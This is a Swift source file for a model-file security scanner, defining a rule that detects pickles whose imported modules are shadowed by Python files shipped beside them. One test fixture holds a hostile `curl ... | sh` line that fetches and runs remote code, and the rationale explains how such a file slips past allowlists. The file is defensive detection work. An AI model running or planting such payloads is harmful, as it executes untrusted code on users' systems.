import BulwarkCore
import Synchronization

/// A pickle imports a module that a Python file beside it (or at the scan root) provides.
struct PickleLocalModuleRule: ModelIssueRule {
    typealias Model = ModelFile

    var description: RuleDescription { Self.info }

    static let info = RuleDescription(
            id: "pickle-local-module", name: "Pickle imports a module shipped beside it", family: "models",
            summary: "A module the pickle imports is provided by a .py file, compiled module or package folder in the pickle's folder or at the scan root; loading from there runs that file.",
            rationale: """
            ## What it detects
            For every pickle (plain pickles, torch zips, joblib dumps...), the top-level name of each module \
            it imports (`catboost` for `catboost.core.CatBoost`), looked up in the pickle's own folder and at \
            the scan root: a `catboost.py`, `catboost.pyc`, extension module (`catboost.cpython-311-x86_64-linux-gnu.so`), \
            package folder (`catboost/__init__.py`), or folder without `__init__.py` holding the imported \
            submodule (a namespace package, used when no installed package has that name). Trusted names \
            count too: that is the point. Names Python never looks up on `sys.path` (built-in and start-up \
            modules such as `builtins`, `sys`, `os`, `codecs`, and `__main__`) and the `__torch__` types of a \
            TorchScript archive are not looked up. A package folder at the scan root that the root's \
            `pyproject.toml`, `setup.py` or `setup.cfg` names is the project's own source (a library repository \
            whose test pickles import the library) and is not reported. Critical when the file plainly runs something (`os.system`, \
            `subprocess`, `exec(`, `eval(`, `__import__(`...), high otherwise.

            ## Why it matters
            `pickle.load` imports each module it names, and Python searches `sys.path[0]` (the folder of the \
            loading script, or the working directory for `python -c`, notebooks and many services) before the \
            installed packages. A model folder that ships `catboost.py` next to a pickle naming only \
            `catboost.CatBoost`, an allowlisted class, runs that file when it is loaded from there, and \
            every global of the pickle looks harmless. A `__torch__.py` does the same for TorchScript type \
            names in a plain pickle, a `UserDict.py` for Python 2 names, a `torch/` folder for every checkpoint. \
            Hugging Face `trust_remote_code` files (`modeling_*.py`, `configuration_*.py`) are not imported by \
            the pickles beside them and are not reported.

            ## How to fix
            Remove the file, or load the model from another working directory with the folder off \
            `sys.path`. If the module is your project's own code (a checkpoint of your own classes, saved \
            with `torch.save(model)`), save a state dict as safetensors instead, or suppress the finding with \
            a baseline.

            ## References
            - CWE-427: Uncontrolled Search Path Element
            - CWE-502: Deserialization of Untrusted Data
            - Python documentation, "The module search path" (`sys.path[0]`)
            """,
            defaultSeverity: .high, defaultConfidence: .medium,
            remediation: "Remove the shadowing file from the model folder, or load from elsewhere with the folder off sys.path.",
            lazyExamples: [
                Example(.triggers, path: "models/model.pkl", bytes: Self.catboostClass)
                    .beside(["catboost.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"]),
                Example(.triggers, path: "models/model.pkl", bytes: Self.catboostClass)
                    .beside(["catboost/__init__.py": "from .core import CatBoost\n", "catboost/core.py": "class CatBoost: pass\n"]),
                // A Hugging Face trust_remote_code folder: the weights' pickle imports torch, not modeling_*.py.
                Example(.clean, path: "models/pytorch_model.bin", bytes: ZipBuilder.torchCheckpoint(pickle: PickleExamples.stateDict))
                    .beside(["modeling_custom.py": "import torch\nclass CustomModel(torch.nn.Module): pass\n",
                             "configuration_custom.py": "class CustomConfig: pass\n"]),
                Example(.clean, path: "models/model.pkl", bytes: Self.catboostClass)
                    .beside(["catboost_utils.py": "import os\nos.system('id')\n", "notes/catboost.py": "x = 1\n"]),
            ])

    static let issueKind = ModelIssue.Kind.localModule

    func severity(_ issue: ModelIssue) -> Severity { issue.grade == .runsCode ? .critical : .high }

    /// `catboost.CatBoost.__new__(catboost.CatBoost)`: an allowlisted class of a trusted package.
    static var catboostClass: [UInt8] {
        var p = PickleBuilder(protocol: 4)
        p.stackGlobal("catboost.core", "CatBoost")
        p.op(.emptyTuple)
        p.op(.newObj)
        return p.finished()
    }

    // MARK: - Facts

    /// Adds the fact for each imported module a file on disk beside `file` (or at the scan root) provides.
    static func attach(_ model: inout ModelFile, file: SourceFile, context: ScanContext) {
        guard !model.pickles.isEmpty, context.settings(for: info).enabled else { return }
        guard let absolute = file.absolutePath else {
            let names = LocalModules.imported(model)
            if !names.isEmpty { LocalModules.remember(file, names) }
            return
        }
        if inBarrenFolder(absolute, run: context.run) { return }
        let folder = parent(absolute)
        var root = context.root
        while root.count > 1, root.hasSuffix("/") { root.removeLast() }
        let rootPrefix = root == "/" ? "/" : root + "/"
        let folders = folder == root ? [folder] : [folder, root]
        // The folders are listed first: when neither holds a module file or a subfolder (a folder of weights),
        // nothing can provide an import and the pickles' names are not gathered (about 2% of the CPU of a scan
        // of the benchmark's 640-file folder).
        let tree = LocalModules.ListedTree(folders: folders, run: context.run)
        guard tree.mayProvide else {
            barren.withLock { $0 = (context.run, folder) }
            return
        }
        let names = LocalModules.imported(model)
        guard !names.isEmpty else { return }
        let found = LocalModules.providers(for: names, folders: folders, tree: tree,
                                           show: { $0.hasPrefix(rootPrefix) ? String($0.dropFirst(rootPrefix.count)) : $0 },
                                           skip: absolute, projectRoot: root)
        model.issues += found.map(issue)
    }

    /// The last folder of a scan (`ScanContext.run`) whose listing, with the scan root's, offers no module: its
    /// other files need no listing. Within a scan a folder is listed once anyway (`LocalModules.listings`);
    /// this skips building the folder's path and the listed tree for each of its files (about 1% of a `--jobs 1`
    /// scan of the benchmark's 640 files, session 15).
    static let barren = Mutex<(run: Int, folder: String)?>(nil)

    /// Whether `absolute`'s folder is the remembered barren folder of this run (compared on the bytes, without
    /// making the folder's string).
    static func inBarrenFolder(_ absolute: String, run: Int) -> Bool {
        barren.withLock { memo in
            guard let memo, memo.run == run else { return false }
            // On the contiguous UTF-8 of both (a generic comparison of the two UTF-8 views cost more than it saved).
            let same = absolute.utf8.withContiguousStorageIfAvailable { p -> Bool in
                var slash = p.count - 1
                while slash >= 0, p[slash] != UInt8(ascii: "/") { slash -= 1 }
                guard slash >= 0 else { return false }
                // `parent` gives "/" for a file at the top.
                if slash == 0 { return memo.folder == "/" }
                return memo.folder.utf8.withContiguousStorageIfAvailable { q -> Bool in
                    guard q.count == slash else { return false }
                    for i in 0..<slash where q[i] != p[i] { return false }
                    return true
                } ?? false
            }
            return same ?? false
        }
    }

    /// In-memory files (rule examples, the single-file API): resolved against the other walked files.
    static func finish(files: [SourceFile], context: ScanContext) -> [Finding] {
        guard context.settings(for: info).enabled, !LocalModules.pending.withLock({ $0.isEmpty }) else { return [] }
        var out: [Finding] = []
        var tree: LocalModules.WalkedTree?
        for f in files where f.absolutePath == nil {
            guard let names = LocalModules.take(f) else { continue }
            let t = tree ?? LocalModules.WalkedTree(files)
            tree = t
            let folder = f.relativePath.contains("/") ? parent(f.relativePath) : ""
            let found = LocalModules.providers(for: names, folders: folder.isEmpty ? [""] : [folder, ""], tree: t,
                                               show: { $0 }, skip: f.relativePath, projectRoot: "")
            guard !found.isEmpty else { continue }
            var m = ModelFile(path: f.relativePath, format: "pickle")
            m.issues = found.map(issue)
            out += context.run([PickleLocalModuleRule()] as [any Rule<ModelFile>], model: m, file: f)
        }
        return out
    }

    /// The folder part of a path: up to its last `/` byte (the file system's separator; a search by `Character`
    /// walked every grapheme of the path, 0.7% of the benchmark folder's CPU), `/` for a file at the top.
    static func parent(_ path: String) -> String {
        guard let slash = path.utf8.lastIndex(of: UInt8(ascii: "/")) else { return "" }
        return slash == path.utf8.startIndex ? "/" : String(path[..<slash])
    }

    static func issue(_ p: LocalModules.Provider) -> ModelIssue {
        let what: String
        switch p.kind {
        case .source: what = "`\(p.shown)` provides a module of that name"
        case .compiled: what = "`\(p.shown)` provides a compiled module of that name (not inspected)"
        case .package: what = "`\(p.shown)` makes its folder a package of that name"
        case .namespacePortion:
            what = "`\(p.shown)` provides it through a folder without `__init__.py` (used when no installed package is named `\(p.module)`)"
        }
        let runs = p.runs.map { "; that file calls `\($0)`" } ?? ""
        return ModelIssue(.localModule, member: nil, offset: nil,
                          fact: "Loading imports `\(p.module)` (`\(p.example)`), and \(what): a loader started in this folder, or with it on `sys.path`, runs that file instead of the installed package\(runs)",
                          grade: p.runs == nil ? .plain : .runsCode, subject: p.module, anchor: "local-module:\(p.module):\(p.shown)")
    }
}

extension Example {
    /// The example with files placed beside it (relative to its folder).
    func beside(_ files: [String: String]) -> Example {
        var e = self
        e.siblings = files.mapValues { Array($0.utf8) }
        return e
    }
}
